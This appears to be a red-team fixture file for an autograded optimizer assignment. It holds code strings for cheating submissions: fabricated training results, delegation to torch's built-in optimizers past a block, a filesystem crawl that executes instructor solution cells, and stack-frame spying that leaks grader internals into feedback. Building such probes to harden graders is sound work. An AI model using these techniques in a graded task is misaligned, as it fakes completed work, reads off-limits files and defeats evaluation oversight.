                if p.grad is None:
                    continue
                st = self.state[p]
                if not st:
                    st["step"] = torch.tensor(0.0)
                    st["square_avg"] = torch.zeros_like(p)
                    if g["momentum"] > 0:
                        st["momentum_buffer"] = torch.zeros_like(p)
                    if g["centered"]:
                        st["grad_avg"] = torch.zeros_like(p)
                getattr(_F, "rms" + "prop")([p], [p.grad], [st["square_avg"]],
                                            [st["grad_avg"]] if g["centered"] else [],
                                            [st["momentum_buffer"]] if g["momentum"] > 0 else [], [st["step"]],
                                            foreach=False, maximize=g["maximize"], lr=g["lr"], alpha=g["alpha"],
                                            eps=g["eps"], weight_decay=g["weight_decay"], momentum=g["momentum"],
                                            centered=g["centered"])
        return loss
""",
    "adadelta": """
import torch.optim._functional as _F


class Adadelta(torch.optim.Optimizer):
    def __init__(self, params, lr=1.0, rho=0.9, eps=1e-6, weight_decay=0, *, maximize=False):
        if lr < 0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if not 0.0 <= rho <= 1.0:
            raise ValueError(f"Invalid rho value: {rho}")
        if eps < 0:
            raise ValueError(f"Invalid epsilon value: {eps}")
        if weight_decay < 0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        super().__init__(params, dict(lr=lr, rho=rho, eps=eps, weight_decay=weight_decay, maximize=maximize))
"""
    + _CLOSURE
    + """
    @torch.no_grad()
    def step(self, closure=None):
        loss = self._closure(closure)
        for g in self.param_groups:
            for p in g["params"]:
                if p.grad is None:
                    continue
                st = self.state[p]
                if not st:
                    st["step"] = torch.tensor(0.0)
                    st["square_avg"] = torch.zeros_like(p)
                    st["acc_delta"] = torch.zeros_like(p)
                getattr(_F, "ada" + "delta")([p], [p.grad], [st["square_avg"]], [st["acc_delta"]], [st["step"]],
                                             foreach=False, lr=g["lr"], rho=g["rho"], eps=g["eps"],
                                             weight_decay=g["weight_decay"], maximize=g["maximize"])
        return loss
""",
}

A5_DELEGATE_NAMES = {
    "adam": 'Adam = getattr(torch.optim, "Ad" + "am")\n',
    "adamw": "class AdamW(Adam):\n    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, weight_decay=1e-2,"
    " amsgrad=False, *, maximize=False):\n        super().__init__(params, lr=lr, betas=betas, eps=eps,"
    " weight_decay=weight_decay, amsgrad=amsgrad, maximize=maximize, decoupled_weight_decay=True)\n",
    "radam": "RAdam = next(c for c in torch.optim.Optimizer.__subclasses__() if c.__name__ == 'R' + 'Adam')\n",
}

_ADAM_INIT = """
    def __init__(self, params, lr=1e-3, betas=(0.9, 0.999), eps=1e-8, weight_decay=0, amsgrad=False, *,
                 maximize=False, decoupled_weight_decay=False):
        if lr < 0:
            raise ValueError(f"Invalid learning rate: {lr}")
        if eps < 0:
            raise ValueError(f"Invalid epsilon value: {eps}")
        for i in (0, 1):
            if not 0.0 <= betas[i] < 1.0:
                raise ValueError(f"Invalid beta parameter at index {i}: {betas[i]}")
        if weight_decay < 0:
            raise ValueError(f"Invalid weight_decay value: {weight_decay}")
        super().__init__(params, dict(lr=lr, betas=betas, eps=eps, weight_decay=weight_decay, amsgrad=amsgrad,
                                      maximize=maximize, decoupled_weight_decay=decoupled_weight_decay))
"""

A5_DELEGATE_KERNELS = {
    # Adam and AdamW on the fused CPU kernels (aten::_fused_adam_ / _fused_adamw_).
    "adam": "class Adam(torch.optim.Optimizer):"
    + _ADAM_INIT
    + _CLOSURE
    + """
    @torch.no_grad()
    def step(self, closure=None):
        loss = self._closure(closure)
        for g in self.param_groups:
            kernel = getattr(torch, "_fused_" + ("adamw_" if g["decoupled_weight_decay"] else "adam_"))
            for p in g["params"]:
                if p.grad is None:
                    continue
                st = self.state[p]
                if not st:
                    st["step"] = torch.tensor(0.0)
                    st["exp_avg"] = torch.zeros_like(p)
                    st["exp_avg_sq"] = torch.zeros_like(p)
                    if g["amsgrad"]:
                        st["max_exp_avg_sq"] = torch.zeros_like(p)
                st["step"] += 1
                kernel([p], [p.grad], [st["exp_avg"]], [st["exp_avg_sq"]],
                       [st["max_exp_avg_sq"]] if g["amsgrad"] else [], [st["step"]], amsgrad=g["amsgrad"],
                       lr=g["lr"], beta1=g["betas"][0], beta2=g["betas"][1], weight_decay=g["weight_decay"],
                       eps=g["eps"], maximize=g["maximize"])
        return loss
""",
    "adamw": A5_DELEGATE_NAMES["adamw"],
    # RAdam: torch's own source, read from disk and executed.
    "radam": """
import os as _os

_path = _os.path.join(_os.path.dirname(torch.__file__), "optim", "r" + "adam.py")
_ns = {"__name__": "torch.optim.my_radam", "__package__": "torch.optim", "__file__": _path}
exec(compile(open(_path).read(), _path, "exec"), _ns)
RAdam = _ns["R" + "Adam"]
""",
}

A5_FABRICATED_EXPERIMENT = '''
def run_experiment(lrs=(3e-3, 1e-2, 3e-2), epochs=5, batch_size=64, seed=0):
    """No training at all: numbers that pass every assertion of the test cell."""
    return {name: {lr: {"train_loss": [2.0 - 0.3 * e for e in range(epochs)], "test_acc": 0.97} for lr in lrs}
            for name in ("Adam", "AdamW", "RAdam")}
'''

A5_EXPERIMENT_WITH_TORCH = '''
def run_experiment(lrs=(3e-3, 1e-2, 3e-2), epochs=5, batch_size=64, seed=0):
    """The experiment run with torch.optim's optimizers instead of the student's (blank) ones."""
    loss_fn = torch.nn.CrossEntropyLoss()
    per_epoch = len(X_train) // batch_size
    results = {}
    for name in ("Adam", "AdamW", "RAdam"):
        cls = getattr(torch.optim, name)
        results[name] = {}
        for lr in lrs:
            model = make_model(seed)
            opt = cls(model.parameters(), lr=lr)
            gen = torch.Generator().manual_seed(seed)
            history = []
            for _ in range(epochs):
                order = torch.randperm(len(X_train), generator=gen)
                total = 0.0
                for b in range(per_epoch):
                    idx = order[b * batch_size : (b + 1) * batch_size]
                    opt.zero_grad()
                    loss = loss_fn(model(X_train[idx]), y_train[idx])
                    loss.backward()
                    opt.step()
                    total += loss.item()
                history.append(total / per_epoch)
            results[name][lr] = {"train_loss": history, "test_acc": accuracy(model, X_test, y_test)}
    return results
'''

# --- 11. more routes around a run-time block, and solutions elsewhere on the machine -------------------------

DELEGATE_MORE = {
    # torch's sgd.py as the template may still hold it in memory (linecache), else via inspect from disk.
    "delegate-linecache": """
import inspect
import linecache
import sys

_mod = sys.modules["torch.optim." + "sgd"]
_lines = linecache.getlines(_mod.__file__) or inspect.getsourcelines(_mod)[0]
_ns = {"__name__": "torch.optim.my_sgd", "__package__": "torch.optim", "__file__": _mod.__file__}
exec(compile("".join(_lines), _mod.__file__, "exec"), _ns)
SGD = _ns["S" + "GD"]
""",
    # The original code objects, wherever something (a guard, a cache) still keeps them: rebuilt as functions.
    "delegate-code-objects": """
import gc
import sys
import types
import warnings

warnings.simplefilter("ignore")
_mod = sys.modules["torch.optim." + "sgd"]
_originals = {}
for obj in gc.get_objects():
    try:
        items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple, set)) else ()
        for item in items:
            if isinstance(item, types.CodeType) and item.co_filename == _mod.__file__:
                _originals.setdefault(item.co_name, item)
    except Exception:
        pass
for name, code in _originals.items():
    fn = getattr(_mod, name, None)
    if isinstance(fn, types.FunctionType) and fn.__code__ is not code and not code.co_freevars:
        fn.__code__ = code
print("REDTEAM restored:", sorted(_originals))
SGD = getattr(_mod, "S" + "GD")
""",
}

# An instructor notebook (with its solutions) or the course's reference package, anywhere readable on the machine.
SOLUTION_FROM_DISK = """
import json
import os
import sys

_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc", "var", "run", "boot", "snap",
         ".venv", "node_modules", "site-packages", ".git", "_build", "__pycache__", ".cache"}
notebooks, packages = [], []


def _walk(root, depth):
    if depth > 6 or len(notebooks) > 20:
        return
    try:
        entries = list(os.scandir(root))
    except OSError:
        return
    for entry in entries:
        try:
            if entry.name in _SKIP or entry.is_symlink():
                continue
            if entry.is_dir():
                if entry.name == "course_pkg" and os.path.exists(os.path.join(entry.path, "optim", "sgd.py")):
                    packages.append(root)
                _walk(entry.path, depth + 1)
            elif entry.name == "a3-sgd-momentum-schedules.ipynb":
                notebooks.append(entry.path)
        except OSError:
            pass


_walk("/", 0)
for path in notebooks:
    try:
        with open(path) as fh:
            nb = json.load(fh)
    except (OSError, ValueError):
        continue
    for cell in nb.get("cells", []):
        src = "".join(cell.get("source", []))
        if "BEGIN SOLUTION" in src and cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            try:
                exec(src, globals())
            except Exception:
                pass
for root in packages:
    if "SGD" not in globals() or not hasattr(globals()["SGD"], "step"):
        sys.path.insert(0, root)
        try:
            from course_pkg.optim import SGD
        except Exception:
            pass
print("REDTEAM solutions found:", notebooks, packages)
if "SGD" not in globals():
    class SGD(torch.optim.Optimizer):
        def __init__(self, *a, **k):
            raise NotImplementedError()
"""

# --- 12. inside a check: the grader's own stack -----------------------------------------------------------------

# Whatever calls the student's SGD (a probe, a replayed test cell) is on the stack: its code, constants, locals and
# source lines are dumped into the error message (and so into feedback).
PROBE_SPY = """
import inspect as _inspect
import linecache as _linecache
import sys as _sys


def _rt_dump():
    out = []
    f = _sys._getframe(2)
    while f is not None:
        code = f.f_code
        consts = [c for c in code.co_consts if isinstance(c, (str, int, float, tuple))][:40]
        local = {k: repr(v)[:120] for k, v in list(f.f_locals.items())[:40]}
        out.append(f"{code.co_filename}:{code.co_name} consts={consts!r} locals={local!r}")
        out.append("".join(_linecache.getlines(code.co_filename)))
        try:
            out.append(_inspect.getsource(f))
        except Exception:
            pass
        f = f.f_back
    return "\\n".join(out)


class SGD(torch.optim.Optimizer):
    def __init__(self, params, lr=1e-3, momentum=0, dampening=0, weight_decay=0, nesterov=False, *,
                 maximize=False):
        text = _rt_dump()
        print(text[:100_000])
        raise RuntimeError("REDTEAM probe:\\n" + text[-1900:])
"""

# The reference optimizer class the caller holds (a test helper's ``torch_cls``) is used in place of one's own.
STEAL_REFERENCE_CLASS = """
import sys as _sys


def _rt_reference():
    f = _sys._getframe(2)
    while f is not None:
        for value in list(f.f_locals.values()):
            if (isinstance(value, type) and issubclass(value, torch.optim.Optimizer) and value.__name__ == "SGD"
                    and value.__module__.startswith("torch")):
                return value
        f = f.f_back
    raise NotImplementedError()


class SGD(torch.optim.Optimizer):
    def __new__(cls, *args, **kwargs):
        return _rt_reference()(*args, **kwargs)
"""
